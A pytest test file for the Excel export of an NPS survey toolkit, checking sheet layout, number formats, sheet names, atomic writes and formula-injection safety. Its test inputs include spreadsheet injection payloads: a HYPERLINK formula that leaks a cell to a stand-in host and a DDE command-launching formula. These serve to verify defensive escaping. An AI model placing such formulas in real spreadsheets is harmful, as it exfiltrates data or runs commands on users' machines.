"""The study workbook (STEM.xlsx): read back with openpyxl, sheet by sheet, cell by cell."""

from __future__ import annotations

import ast
import dataclasses
import datetime
import os
import zipfile

import numpy as np
import pandas as pd
import pytest

openpyxl = pytest.importorskip("openpyxl")

from nps_toolkit import _i18n  # noqa: E402
from nps_toolkit.workbook import number_format, sheet_name, write_workbook  # noqa: E402

#: Texts that spreadsheets read as formulas (CSV/Excel injection) once typed into a cell.
FORMULAS = ["=1+1", "+31", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x.example/?leak="&A1,"click")',
            "=cmd|' /C calc'!A0"]


@dataclasses.dataclass
class FakeStudy:
    """What write_workbook reads of a Study (the fields agreed for issue 16)."""

    tables: dict
    headline: str = "NPS is 31 (95% CI 25 to 37)."
    methods: str = "NPS = % promoters (9-10) − % detractors; data: C:\\exports\\<a&b>.csv\n\nSecond paragraph."
    language: str = "en"
    parameters: dict = dataclasses.field(default_factory=dict)
    key_figures: dict = dataclasses.field(default_factory=dict)
    followup: pd.DataFrame | None = None
    results: dict = dataclasses.field(default_factory=dict)


def _segments():
    return pd.DataFrame({"segment": ["North", "=1+1", "South"], "n": [120, 98, 7],
                         "nps": [31.25, -4.0, 50.0], "ci_low": [22.1, -15.2, 1.0], "ci_high": [40.0, 7.7, 80.0],
                         "p_value_adjusted": [0.0004, 0.51, np.nan], "significant": [True, False, False],
                         "low_n": [False, False, True]})


def _followup():
    return pd.DataFrame({"respondent_id": [1017, 2044], "score": [3, 6],
                         "date": pd.to_datetime(["2024-03-05 00:00", "2024-03-07 14:30"]),
                         "Q1 region": ["North", "-South"], "comment": ["@support never answers", FORMULAS[4]],
                         "themes": [["support", "delivery"], []]})


def _study(**changes):
    base = dict(tables={"segments": _segments(),
                        "feedback": pd.DataFrame({"priority": [1, 2], "theme": ["Delivery", "+Price"],
                                                  "mentions": [374, 218], "minus_share": [0.302139, 0.35],
                                                  "impact": [-2.400275, -1.3]})},
                parameters={"title": "NPS study", "confidence": 0.95, "segment_column": None,
                            "owners": {"delivery": "Logistics"}, "results_path": "/tmp/x/.s.abc.partial/s.json"},
                key_figures={"nps": 31.25, "n": 120, "benchmark": {"gap": 4.5}},
                followup=_followup(), results={"meta": {"title": "NPS <study>"}})
    base.update(changes)
    return FakeStudy(**base)


@pytest.fixture
def book(tmp_path):
    path = write_workbook(_study(), tmp_path / "study.xlsx")
    return path, openpyxl.load_workbook(path)


def _rows(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_one_sheet_per_table_then_followup_methods_parameters(book):
    path, wb = book
    assert path.name == "study.xlsx"
    assert wb.sheetnames == ["summary", "segments", "feedback", "followup", "methods", "parameters"]


def test_numbers_are_numbers_with_their_formats(book):
    _, wb = book
    sheet = wb["segments"]
    headers = [c.value for c in sheet[1]]
    assert headers == [_i18n.header(c, "en") for c in _segments().columns]
    want = _segments()
    for j, column in enumerate(want.columns, start=1):
        for i, value in enumerate(want[column], start=2):
            cell = sheet.cell(row=i, column=j)
            if isinstance(value, float) and np.isnan(value):
                assert cell.value is None
            elif isinstance(value, (bool, np.bool_)):
                assert cell.value is bool(value) and cell.data_type == "b"
            elif isinstance(value, str):
                assert cell.value == value and cell.data_type == "s"
            else:
                assert cell.data_type == "n" and cell.value == pytest.approx(float(value))
                assert isinstance(cell.value, (int, float))
    formats = {column: sheet.cell(row=2, column=j).number_format for j, column in enumerate(want.columns, start=1)}
    assert formats["n"] == "0" and formats["nps"] == "0.0" and formats["ci_low"] == "0.0"
    assert formats["p_value_adjusted"] == "0.000"
    assert isinstance(sheet["B2"].value, int)  # a count stays an integer, not 120.0
    feedback = wb["feedback"]
    share = [c.value for c in feedback[1]].index(_i18n.header("minus_share", "en")) + 1
    assert feedback.cell(row=2, column=share).number_format == "0.0%"
    assert feedback.cell(row=2, column=share).value == pytest.approx(0.302139)  # the share itself, not 30.2


def test_header_bold_frozen_filtered_and_widths_fit(book):
    _, wb = book
    for name in wb.sheetnames:
        sheet = wb[name]
        assert sheet.freeze_panes == "A2", name
        assert all(cell.font.b for cell in sheet[1] if cell.value is not None), name
    sheet = wb["segments"]
    assert sheet.auto_filter.ref == "A1:H4"
    assert wb["followup"].auto_filter.ref == "A1:F3"
    for j, column in enumerate(sheet[1], start=1):
        letter = openpyxl.utils.get_column_letter(j)
        width = sheet.column_dimensions[letter].width
        texts = [str(c.value) for c in sheet[letter][1:] if c.data_type == "s" and c.value is not None]
        longest = max([len(t) for t in texts] + [len(word) for word in str(column.value).split()])  # headers wrap
        assert 6 <= width <= 60 and width >= min(longest, 58) + 2


def test_texts_never_become_formulas(tmp_path):
    tables = {"verbatims": pd.DataFrame({"theme": ["delivery"] * len(FORMULAS), "quote": FORMULAS,
                                         "score": range(len(FORMULAS))})}
    followup = pd.DataFrame({"id": FORMULAS, "comment": FORMULAS})
    path = write_workbook(_study(tables=tables, followup=followup, parameters={"title": "=2*3"}),
                          tmp_path / "x.xlsx")
    wb = openpyxl.load_workbook(path)
    for name in ("verbatims", "followup"):
        for row in wb[name].iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in FORMULAS:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix  # text even once a user edits the cell
    assert [c.value for c in wb["verbatims"]["B"][1:]] == FORMULAS
    assert wb["parameters"]["B2"].value == "=2*3" and wb["parameters"]["B2"].data_type == "s"
    with zipfile.ZipFile(path) as archive:  # no formula anywhere in the file
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_sheet_names_are_made_valid_and_unique():
    assert sheet_name("a/b:c*?[x]\\y") == "a_b_c___x__y"
    assert len(sheet_name("segment " * 10)) == 31
    assert sheet_name("Periods", taken=["periods"]) == "Periods (2)"
    assert sheet_name("Periods", taken=["periods", "Periods (2)"]) == "Periods (3)"
    long = "p" * 40
    assert sheet_name(long, taken=[long[:31]]) == "p" * 27 + " (2)"
    assert sheet_name("'quoted'") == "quoted" and sheet_name("") == "sheet" and sheet_name("History") == "history_"


def test_tables_with_awkward_names_still_get_their_sheets(tmp_path):
    tables = {"NPS by segment: Q1/Q2 [draft]": _segments(), "nps by segment_ q1_q2 _draft_": _segments(),
              "followup": _segments()}
    wb = openpyxl.load_workbook(write_workbook(_study(tables=tables), tmp_path / "x.xlsx"))
    assert wb.sheetnames == ["summary", "NPS by segment_ Q1_Q2 _draft_", "nps by segment_ q1_q2 _draf (2)",
                             "followup", "followup (2)", "methods", "parameters"]
    assert all(len(name) <= 31 for name in wb.sheetnames)


def test_followup_sheet_keeps_the_data_and_its_column_names(book):
    _, wb = book
    sheet = wb["followup"]
    assert [c.value for c in sheet[1]] == list(_followup().columns)
    assert [c.value for c in sheet["A"][1:]] == [1017, 2044] and sheet["A2"].number_format == "0"
    assert sheet["C2"].value == datetime.datetime(2024, 3, 5) and sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["C3"].value == datetime.datetime(2024, 3, 7, 14, 30) and "hh:mm" in sheet["C3"].number_format
    assert sheet["D3"].value == "-South" and sheet["D3"].data_type == "s"
    assert sheet["F2"].value == "support; delivery" and sheet["F3"].value is None


def test_no_followup_sheet_without_a_followup(tmp_path):
    wb = openpyxl.load_workbook(write_workbook(_study(followup=None), tmp_path / "x.xlsx"))
    assert "followup" not in wb.sheetnames


def test_summary_methods_and_parameters(book):
    _, wb = book
    summary = dict((r[0], r[1]) for r in _rows(wb["summary"])[1:])
    assert summary["title"] == "NPS <study>"
    assert summary["headline"] == "NPS is 31 (95% CI 25 to 37)."
    assert summary["nps"] == 31.25 and summary["n"] == 120 and summary["benchmark.gap"] == 4.5
    numbers = {r[0].value: r[1].number_format for r in wb["summary"].iter_rows(min_row=2)}
    assert numbers["n"] == "0" and numbers["nps"] == "0.0"
    methods = [r[0] for r in _rows(wb["methods"])]
    assert methods == ["methods", "NPS = % promoters (9-10) − % detractors; data: C:\\exports\\<a&b>.csv",
                       "Second paragraph."]  # plain text, as written
    parameters = dict((r[0], r[1]) for r in _rows(wb["parameters"])[1:])
    assert parameters == {"title": "NPS study", "confidence": 0.95, "segment_column": None,
                          "owners": '{"delivery": "Logistics"}'}  # the run's temporary results_path is left out


def test_control_characters_and_overlong_texts(tmp_path):
    tables = {"verbatims": pd.DataFrame({"quote": ["bell\x07 and nul\x00 gone", "x" * 40000]})}
    wb = openpyxl.load_workbook(write_workbook(_study(tables=tables), tmp_path / "x.xlsx"))
    sheet = wb["verbatims"]
    assert sheet["A2"].value == "bell and nul gone"
    assert len(sheet["A3"].value) == 32767 and sheet["A3"].value.endswith("…")


def test_number_format_rules():
    assert number_format("p_value") == "0.000" and number_format("p_best") == "0.0%"
    assert number_format("share") == "0.0%" and number_format("detractor_share") == "0.0%"
    assert number_format("promoters", [3, 4]) == "0" and number_format("promoters", [3.5]) == "0.0"
    assert number_format("impact") == "0.0" and number_format("n", ["text"]) == "0"


@pytest.mark.parametrize("mask, mode", [(0o022, 0o644), (0o002, 0o664)])
def test_written_atomically_with_the_umask(tmp_path, mask, mode):
    old = os.umask(mask)
    try:
        path = write_workbook(_study(), tmp_path / "x.xlsx")
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == mode
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]


def test_a_failed_write_keeps_the_previous_workbook(tmp_path, monkeypatch):
    path = tmp_path / "x.xlsx"
    path.write_bytes(b"previous")

    def broken(self, filename):
        with open(filename, "wb") as handle:
            handle.write(b"half")
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(_study(), path)
    assert path.read_bytes() == b"previous" and [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]


def test_the_tables_of_a_real_study(tmp_path):
    """The benchmark study of the bundled sample: every table on its sheet, every number as computed."""
    import nps_toolkit as nt
    from nps_toolkit.parameters import prepare_study, template_parameters

    values = {k: ast.literal_eval(v.default) for k, v in template_parameters("benchmark_study").items()}
    params, data = prepare_study("benchmark_study", values)
    study = nt.benchmark_study(data, params)
    wb = openpyxl.load_workbook(write_workbook(study, tmp_path / "s.xlsx"))
    for name, table in study.tables.items():
        sheet = wb[sheet_name(name)]
        assert sheet.max_row == len(table) + 1, name
        for j, column in enumerate(table.columns, start=1):
            got = [c.value for c in sheet[openpyxl.utils.get_column_letter(j)][1:]]
            if pd.api.types.is_numeric_dtype(table[column]) and not pd.api.types.is_bool_dtype(table[column]):
                want = [None if pd.isna(v) else float(v) for v in table[column]]
                assert got == pytest.approx(want, nan_ok=True), (name, column)
    assert "methods" in wb.sheetnames and "parameters" in wb.sheetnames
    if getattr(study, "parameters", None):  # the validated parameters (Study.parameters, issue 16)
        names = [r[0].value for r in wb["parameters"].iter_rows(min_row=2)]
        assert "confidence" in names and "results_path" not in names
